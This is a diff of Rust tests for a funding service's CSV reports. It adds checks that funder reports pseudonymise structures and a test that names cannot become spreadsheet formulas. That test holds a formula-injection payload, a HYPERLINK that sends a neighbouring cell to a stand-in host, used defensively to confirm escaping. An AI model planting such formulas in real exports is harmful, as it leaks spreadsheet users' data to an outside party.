@@ -1,4 +1,4 @@
-use std::collections::BTreeMap;
+use std::collections::{BTreeMap, BTreeSet};
 
 use http::StatusCode;
 use serde_json::{Value, json};
@@ -129,6 +129,8 @@ async fn a_line_says_what_was_done_where_and_never_who(admin: PgPool) {
     let all = lines(&bytes);
     assert_eq!(all.len(), 6, "three claims of two funders");
     let line = &all[0];
+    let pseudonym = line["structure"].clone();
+    assert_eq!(pseudonym.len(), 32, "{pseudonym}");
     let expected = [
         ("claim_id", id(202).to_string()),
         ("programme_id", PROGRAMME.to_string()),
@@ -140,7 +142,7 @@ async fn a_line_says_what_was_done_where_and_never_who(admin: PgPool) {
         ("departement", "21".to_owned()),
         ("commune_code", "21231".to_owned()),
         ("commune", "Dijon".to_owned()),
-        ("structure_id", HELD.to_string()),
+        ("structure", pseudonym),
         ("vouchers", "1".to_owned()),
         ("face_value", "10.00".to_owned()),
         ("funder_id", FUNDERS[0].to_string()),
@@ -157,9 +159,45 @@ async fn a_line_says_what_was_done_where_and_never_who(admin: PgPool) {
         .collect();
     assert_eq!(line, &expected);
     let text = String::from_utf8(bytes).unwrap();
-    for secret in ["Médiathèque", "1111111", "FR14", "Mairie"] {
+    let (held, paid) = (HELD.to_string(), PAID.to_string());
+    for secret in ["Médiathèque", "1111111", "FR14", "Mairie", &held, &paid] {
         assert!(!text.contains(secret), "{secret}");
     }
+}
+
+/// A structure's id is made from its SIRET, which everybody can look up: a funder must not be able to try them all.
+#[sqlx::test(migrations = false)]
+async fn a_structure_has_a_pseudonym_that_is_one_funders_and_stays(admin: PgPool) {
+    let world = march(admin).await;
+    let named = async |funder: uuid::Uuid| -> BTreeMap<String, String> {
+        let lines = report(&world, &format!("?funder_id={funder}")).await;
+        lines
+            .into_iter()
+            .map(|mut line| (line.remove("claim_id").unwrap(), line.remove("structure").unwrap()))
+            .collect()
+    };
+    let (one, other) = (named(FUNDERS[0]).await, named(FUNDERS[1]).await);
+    assert_eq!(named(FUNDERS[0]).await, one, "the same in every report");
+    let claims = |structure: uuid::Uuid| {
+        let all = [(id(202), HELD), (id(201), PAID), (id(203), PAID)];
+        all.into_iter()
+            .filter(move |(_, of)| *of == structure)
+            .map(|(claim, _)| claim.to_string())
+    };
+    for structure in [HELD, PAID] {
+        let mine: BTreeSet<&String> = claims(structure).map(|claim| &one[&claim]).collect();
+        assert_eq!(mine.len(), 1, "one structure, one pseudonym: {mine:?}");
+    }
+    let (mine, theirs): (BTreeSet<_>, BTreeSet<_>) = (one.values().collect(), other.values().collect());
+    assert_eq!((mine.len(), theirs.len()), (2, 2));
+    assert!(mine.is_disjoint(&theirs), "two funders cannot compare");
+    // Another installation names them otherwise: nothing public makes a pseudonym.
+    sqlx::query("update funding.pseudonym_secret set secret = sha256(secret)")
+        .execute(&world.admin)
+        .await
+        .unwrap();
+    let elsewhere = named(FUNDERS[0]).await;
+    assert!(elsewhere.values().all(|pseudonym| !mine.contains(pseudonym)));
 }
 
 /// The last second of March is April in Paris: the same day as in the settlement.
@@ -239,5 +277,41 @@ async fn an_organisation_fetches_two_long_files_at_a_time(admin: PgPool) {
     drop(second);
     while ask().await.status() != StatusCode::OK {
         tokio::task::yield_now().await;
+    }
+}
+
+/// Whoever names a programme or a structure writes into other people's spreadsheets.
+#[sqlx::test(migrations = false)]
+async fn a_name_is_never_a_formula(admin: PgPool) {
+    let world = march(admin).await;
+    let formula = r#"=HYPERLINK("http://ailleurs.example/"&B2;"détail")"#;
+    for update in [
+        "update catalogue.programme set name = $1",
+        "update redemption.structure set commune = $1, name = $1",
+        "update access.organisation set name = $1 where 'funder' = any(roles)",
+        "update funding.funder set name = $1",
+    ] {
+        sqlx::query(update).bind(formula).execute(&world.admin).await.unwrap();
+    }
+    world.settle(1, "2026-03", "2026-04-03").await;
+    let mut told = 0;
+    for file in [
+        "/v1/reports/claims",
+        "/v1/reports/waterfall?format=csv",
+        "/v1/holds?format=csv",
+    ] {
+        let bytes = world.get(file).await;
+        for record in csv::Reader::from_reader(&bytes[..]).records() {
+            for cell in &record.unwrap() {
+                assert!(!cell.starts_with(['=', '+', '@']), "{file}: {cell}");
+                assert!(
+                    !cell.starts_with('-') || cell.parse::<Cents>().is_ok(),
+                    "{file}: {cell}"
+                );
+                told += usize::from(cell == format!("'{formula}"));
+            }
+        }
+        assert!(told > 0, "{file}");
+        told = 0;
     }
 }
